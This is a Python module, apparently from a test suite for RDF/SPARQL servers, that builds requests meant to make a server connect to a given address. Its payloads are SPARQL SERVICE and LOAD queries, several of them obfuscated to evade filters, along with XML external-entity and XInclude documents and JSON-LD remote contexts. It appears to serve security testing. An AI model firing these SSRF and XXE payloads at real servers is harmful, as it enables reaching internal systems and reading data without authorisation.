"""Every way known to ask a server for a connection to another address, as data; {0} is the address."""

import json

from .bombs import XMLNS
from .client import BEARER, Request, put, query, update

GRAPH_PARAMETERS = ("default-graph-uri", "named-graph-uri")
QUERIES = (
    "SELECT * {{ SERVICE <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ service silent<{0}>{{ ?s ?p ?o }} }}",
    "PREFIX t: <{0}> SELECT * {{ SERVICE t: {{ ?s ?p ?o }} }}",
    "PREFIX : <{0}> SELECT * {{ SERVICE :a {{ ?s ?p ?o }} }}",
    "BASE <{0}> SELECT * {{ SERVICE <a> {{ ?s ?p ?o }} }}",
    "BASE <{0}> SELECT * {{ SERVICE <> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE#{{\n#<a:b>\n<{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE#\rSILENT#\r<{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ BIND('#' AS ?x) SERVICE <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ BIND('''\"''' AS ?x) SERVICE <{0}> {{ ?s ?p ?o }} #'''\n}}",
    "SELECT * {{ ?s ?p '\\'' . SERVICE <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ VALUES ?g {{ <{0}> }} SERVICE ?g {{ ?s ?p ?o }} }}",
    "SELECT * {{ BIND(<{0}> AS ?g) SERVICE SILENT ?g {{ ?s ?p ?o }} }}",
    "ASK {{ FILTER EXISTS {{ SERVICE <{0}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ FILTER NOT EXISTS {{ SERVICE SILENT <{0}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ {{ SELECT * {{ OPTIONAL {{ GRAPH ?g {{ SERVICE <{0}> {{ ?s ?p ?o }} }} }} }} }} }}",
    "ASK {{ ?s ?p ?o MINUS {{ SERVICE <{0}> {{ ?s ?p ?o }} }} }}",
    "CONSTRUCT {{ ?s ?p ?o }} {{ SERVICE <{0}> {{ ?s ?p ?o }} }}",
    "DESCRIBE ?s {{ SERVICE <{0}> {{ ?s ?p ?o }} }}",
    "DESCRIBE <{0}>",
    "SELECT * {{ \\u0053ERVICE <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVIC\\U00000045 <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE <\\u0068ttp{1}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE\ufeff<{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE <HTTP{1}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ <{0}> <{0}> <{0}>. SERVICE <{0}> {{ }} }}",
    "SELECT * FROM <{0}> {{ ?s ?p ?o }}",
    "SELECT * FROM NAMED <{0}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "SELECT * {{ GRAPH <{0}> {{ ?s ?p ?o }} }}",
    "SELECT (<{0}>(1) AS ?x) {{}}",
)
UPDATES = (
    "LOAD <{0}>",
    "LOAD SILENT <{0}>",
    "LOAD <{0}> INTO GRAPH <a:g>",
    "load#\n<{0}>",
    "\\u004cOAD <{0}>",
    "BASE <{0}> LOAD <a>",
    "PREFIX t: <{0}> LOAD t:a",
    "INSERT DATA {{ <a:s> <a:p> 'LOAD' }}; LOAD SILENT <{0}>",
    "INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{0}> {{ ?s ?p ?o }} }}",
    "INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE SILENT <{0}> {{ ?s ?p ?o }} }}",
    "DELETE {{ ?s ?p ?o }} WHERE {{ FILTER EXISTS {{ SERVICE <{0}> {{ ?s ?p ?o }} }} }}",
    "INSERT {{ ?s ?p ?o }} USING <{0}> WHERE {{ ?s ?p ?o }}",
    "WITH <{0}> INSERT {{ ?s ?p 1 }} WHERE {{ ?s ?p ?o }}",
    "COPY <{0}> TO <a:g>",
    "ADD SILENT <{0}> TO DEFAULT",
)
DOCTYPES = (
    '<!DOCTYPE r SYSTEM "{0}">',
    '<!DOCTYPE r PUBLIC "a" "{0}">',
    '<!DOCTYPE r [<!ENTITY e SYSTEM "{0}">]>',
    '<!DOCTYPE r [<!ENTITY % e SYSTEM "{0}"> %e;]>',
    '<?xml-stylesheet href="{0}"?>',
)
RDF = f"<rdf:RDF {XMLNS}><rdf:Description><a:p>&e;</a:p></rdf:Description></rdf:RDF>"
INCLUDE = f'<rdf:RDF {XMLNS} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{{0}}"/></rdf:RDF>'


def requests_to(address: str) -> list[Request]:
    """Everything that might make the server connect to an address."""
    rest = address.removeprefix("http")
    asked = [query(text.format(address, rest)) for text in QUERIES]
    asked += [query("SELECT * {?s ?p ?o} LIMIT 1", **{name: address}) for name in GRAPH_PARAMETERS]
    asked += [update(text.format(address, rest)) for text in UPDATES]
    asked.append(Request("graph", "GET", f"/graphs?graph={address}"))
    asked.append(Request("address", "GET", address, headers=BEARER))
    asked.append(put(address, "text/turtle", f"@base <{address}> . <> a <> .".encode()))
    return asked + _documents(address)


def _documents(address: str) -> list[Request]:
    contexts: tuple[object, ...] = (address, [address], {"@import": address}, {"t": {"@context": address}})
    json_ld = [
        json.dumps({"@context": context, "t": {"t": 1}, "@id": "a:s", "a:p": 1}) for context in contexts
    ]
    xml = [doctype.format(address) + RDF for doctype in DOCTYPES] + [INCLUDE.format(address)]
    documents = [put("a:trap", "application/ld+json", text.encode(), f"context {text}") for text in json_ld]
    linked = {"Link": f'<{address}>; rel="http://www.w3.org/ns/json-ld#context"'}
    documents += [put("a:trap", "application/rdf+xml", text.encode(), f"XML {text}") for text in xml]
    documents += [put("a:trap", "application/rdf+xml", xml[2].encode("utf-16"), "XML in UTF-16")]
    return [*documents, Request("Link", "PUT", "/graphs?default", b"{}", {**documents[0].headers, **linked})]
